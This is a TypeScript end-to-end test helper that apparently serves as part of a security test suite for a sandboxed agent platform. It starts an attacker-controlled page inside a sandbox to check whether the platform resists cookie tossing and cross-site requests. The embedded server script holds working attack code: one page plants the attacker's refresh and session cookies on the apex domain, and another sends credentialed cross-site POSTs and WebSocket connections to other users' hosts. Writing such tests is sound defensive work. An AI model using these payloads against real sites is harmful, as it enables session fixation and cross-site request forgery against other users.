/**
 * Sandbox-controlled content for the attacks of issue 13 items 1-2: a page that the attacker's own sandbox serves
 * on one of its worker ports, i.e. on the attacker's runtime host, which is same-site with the app and with every
 * other user's runtime host.
 *
 * The agent-server stand-in holds every worker port with its own fixed page (it stands for an app the agent would
 * have started there). An agent's real app would simply listen on the free port, so the test starts the
 * attacker's server inside the attacker's sandbox (`docker exec`, as the agent's shell would) and sends the
 * worker port to it with a nat rule in the sandbox's own network namespace. Nothing outside the sandbox changes:
 * the proxy still connects to `<sandbox IP>:<container port>` of the route the spawner gave it.
 */
import { execFileSync } from "node:child_process";
import { docker } from "@openhands-team/docker-lab";

/** Where the attacker's server listens inside the sandbox (the worker port is redirected to it). */
const HOSTILE_PORT = 9012;

/**
 * The attacker's server, run by the sandbox's Node.js. Pages (the attacker's tokens come in its environment):
 * - `/plant`: tosses the attacker's refresh token and session onto the apex (`Domain=<apex>`) under our cookie
 *   names, the `__Host-` ones included (the browser must refuse those), then says "planted";
 * - `/attack?targets=<json>`: for each target URL, a credentialed cross-site POST (no-cors, a "simple" request
 *   that needs no preflight) and a WebSocket to the same host, then lists what the page could observe.
 */
const SERVER = `
const http = require("node:http");
const apex = process.env.HOSTILE_APEX;
const refresh = process.env.HOSTILE_REFRESH;
const session = process.env.HOSTILE_SESSION;
const page = (title, script) => "<!doctype html><title>" + title + "</title><h1 id=status>working</h1><script>" + script + "</script>";
const plant = "const apex = " + JSON.stringify("Domain=" + apex + "; Secure; SameSite=None") + ";" +
  "const r = " + JSON.stringify(refresh) + "; const s = " + JSON.stringify(session) + ";" +
  "[" +
  "'__Secure-oh-refresh=' + r + '; ' + apex + '; Path=/_auth/refresh'," +
  "'__Secure-oh-refresh=' + r + '; ' + apex + '; Path=/'," +
  "'__Host-oh-refresh=' + r + '; ' + apex + '; Path=/'," +
  "'__Host-oh-session=' + s + '; ' + apex + '; Path=/'," +
  "'__Secure-oh-session=' + s + '; ' + apex + '; Path=/'" +
  "].forEach(function (c) { document.cookie = c; });" +
  "document.getElementById('status').textContent = 'planted';";
const attack = "(async function () {" +
  "const targets = JSON.parse(new URLSearchParams(location.search).get('targets') || '[]');" +
  "const seen = [];" +
  "for (const target of targets) {" +
  "  const post = await fetch(target + '/e2e-attack/post', { method: 'POST', credentials: 'include', mode: 'no-cors', body: 'steal' })" +
  ".then(function (r) { return 'answered ' + r.type; }, function (e) { return 'failed ' + e.name; });" +
  "  const socket = await new Promise(function (resolve) {" +
  "    const ws = new WebSocket(target.replace('https:', 'wss:') + '/e2e-attack/socket');" +
  "    ws.onopen = function () { resolve('open'); ws.close(); };" +
  "    ws.onerror = function () { resolve('error'); };" +
  "  });" +
  "  seen.push({ target: target, post: post, socket: socket });" +
  "}" +
  "document.getElementById('status').textContent = JSON.stringify(seen);" +
  "})();";
http.createServer((req, res) => {
  const url = new URL(req.url, "http://sandbox");
  res.setHeader("content-type", "text/html; charset=utf-8");
  if (url.pathname === "/plant") return res.end(page("plant", plant));
  if (url.pathname === "/attack") return res.end(page("attack", attack));
  res.end(page("hostile", ""));
}).listen(${HOSTILE_PORT}, "0.0.0.0", () => console.log("hostile worker ready"));
`;

export interface HostileWorkerOptions {
  /** The attacker's sandbox container. */
  readonly sandbox: string;
  /** The worker's container port to take over (8012 is WORKER_2). */
  readonly containerPort: number;
  /** The site's registrable domain (`Domain=` of the tossed cookies). */
  readonly apex: string;
  /** The attacker's own refresh token and session cookie value, from the attacker's browser. */
  readonly refreshToken: string;
  readonly sessionCookie: string;
}

/** Starts the attacker's server in the sandbox and points the worker port at it; resolves once it answers. */
export async function startHostileWorker(options: HostileWorkerOptions): Promise<void> {
  docker([
    "exec",
    "--detach",
    "--env",
    `HOSTILE_APEX=${options.apex}`,
    "--env",
    `HOSTILE_REFRESH=${options.refreshToken}`,
    "--env",
    `HOSTILE_SESSION=${options.sessionCookie}`,
    options.sandbox,
    "/usr/bin/node",
    "-e",
    SERVER,
  ]);
  const pid = docker(["inspect", "--format", "{{.State.Pid}}", options.sandbox]).stdout.trim();
  if (!/^\d+$/.test(pid) || pid === "0") throw new Error(`${options.sandbox} is not running (pid ${pid})`);
  // In the sandbox's own network namespace only: connections to the worker port reach the attacker's server.
  // (-w: the xtables lock is a file shared with every dockerd on the machine.)
  execFileSync("nsenter", [
    `--net=/proc/${pid}/ns/net`,
    "iptables",
    "-w",
    "10",
    "-t",
    "nat",
    "-A",
    "PREROUTING",
    "-p",
    "tcp",
    "--dport",
    String(options.containerPort),
    "-j",
    "REDIRECT",
    "--to-ports",
    String(HOSTILE_PORT),
  ]);
  for (let attempt = 0; attempt < 50; attempt += 1) {
    const check = docker(
      [
        "exec",
        options.sandbox,
        "/usr/bin/node",
        "-e",
        `fetch("http://127.0.0.1:${HOSTILE_PORT}/").then((r) => process.exit(r.ok ? 0 : 1), () => process.exit(1))`,
      ],
      { allowFailure: true },
    );
    if (check.status === 0) return;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`the hostile worker in ${options.sandbox} did not answer`);
}
